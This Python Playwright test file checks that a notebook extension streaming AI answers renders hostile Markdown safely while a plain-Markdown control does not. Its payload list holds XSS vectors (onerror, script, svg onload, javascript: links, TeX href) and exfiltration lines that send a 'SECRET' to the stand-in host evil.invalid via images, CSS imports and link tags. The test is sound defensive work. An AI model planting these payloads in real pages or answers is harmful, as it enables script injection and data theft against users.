"""Hostile answers in the browser that they aim at."""

from __future__ import annotations

from typing import TYPE_CHECKING

from playwright.sync_api import expect

from tests.e2e.answers import held

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.e2e.browser import OutsideRequests
    from tests.e2e.notebook_page import NotebookPage
    from tests.fake_mibyan import FakeMibyan

_LEAK = "evil.invalid"
_HOSTILE = [
    "Begin.\n\n<img src=x onerror=\"window.__pwned='img'\">\n\n",
    "<script>window.__pwned='script'</script>\n\n<svg onload=\"window.__pwned='svg'\"></svg>\n\n",
    "<svg/onload=window.__pwned='svg2'> <iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">"
    "</iframe>\n\n",
    f"![picture](https://{_LEAK}/?d=SECRET)\n\n![x][leak]\n\n[leak]: https://{_LEAK}/?d=REFERENCE\n\n",
    f"<img src=https://{_LEAK}/?d=HTML> <style>@import 'https://{_LEAK}/?d=CSS'; "
    "body { display: none }</style>\n\n",
    f"<link rel=stylesheet href=https://{_LEAK}/?d=LINK> <video src=https://{_LEAK}/?d=VIDEO "
    f"autoplay></video> <base href=https://{_LEAK}/>\n\n",
    "[a](javascript:window.__pwned='link') [b](data:text/html,<script>parent.__pwned=1</script>) "
    "<a href=\"javascript:window.__pwned='anchor'\">c</a> ![d](data:image/svg+xml;base64,PHN2Zz4=)\n\n",
    f"$\\href{{javascript:window.__pwned='tex'}}{{x}}$ $$\\style{{background:url(https://{_LEAK}/?d=T)}}"
    "{y}$$\n\n",
    f"```html\n<img src=x onerror=\"window.__pwned='fence'\"><img src=https://{_LEAK}/?d=FENCE>\n```\n\n",
    "| <img src=x onerror=\"window.__pwned='table'\"> | b |\n|---|---|\n"
    "| <details open ontoggle=\"window.__pwned='toggle'\"> | 1 |\n\n",
    "The end.",
]
_DANGEROUS = "script, img, svg:not(mjx-container *), iframe, style, link, video, base, form, object"
_HANDLERS = "area => [...area.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"


def test_hostile_answer_runs_nothing_and_calls_nobody(
    open_notebook: Callable[..., NotebookPage], fake: FakeMibyan, outside: OutsideRequests
) -> None:
    """Neither while it streams nor after; the same text as plain Markdown does both."""
    control = f"from IPython.display import Markdown, display\ndisplay(Markdown({''.join(_HOSTILE)!r}))"
    fake.enqueue(held(_HOSTILE))
    notebook = open_notebook("%%mibyan\nBe evil", control)
    page = notebook.page
    notebook.start(1)
    for number in range(1, len(_HOSTILE) + 1):
        fake.wait_for_holds(number)
        notebook.wait_until_frames_rest(1)
        assert notebook.area(1).locator(_DANGEROUS).count() == 0
        fake.release()
    notebook.wait_until_done(1)
    area = notebook.area(1)
    expect(area).to_contain_text("The end.")
    expect(area).to_contain_text("<script>window.__pwned='script'</script>")
    assert area.locator(_DANGEROUS).count() == 0
    assert not [name for name in area.evaluate(_HANDLERS) if name.startswith("on")]
    links = area.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert links
    assert set(links) <= {"http:", "https:", "mailto:"}
    assert page.evaluate("() => window.__pwned") is None
    assert outside.urls == []
    notebook.start(2)
    page.wait_for_function("() => window.__pwned")
    notebook.wait_until_done(2)
    with_secret = [url for url in outside.urls if "SECRET" in url]
    outside.urls.clear()
    assert with_secret
